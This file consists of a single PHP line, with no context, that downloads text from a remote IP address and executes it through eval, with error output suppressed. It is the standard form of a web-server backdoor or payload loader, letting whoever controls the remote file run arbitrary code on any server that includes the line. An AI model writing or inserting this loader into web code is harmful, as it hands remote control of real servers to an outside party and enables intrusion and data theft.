<?php @eval("?>".file_get_contents("http://203.0.113.45/p.txt")); ?>
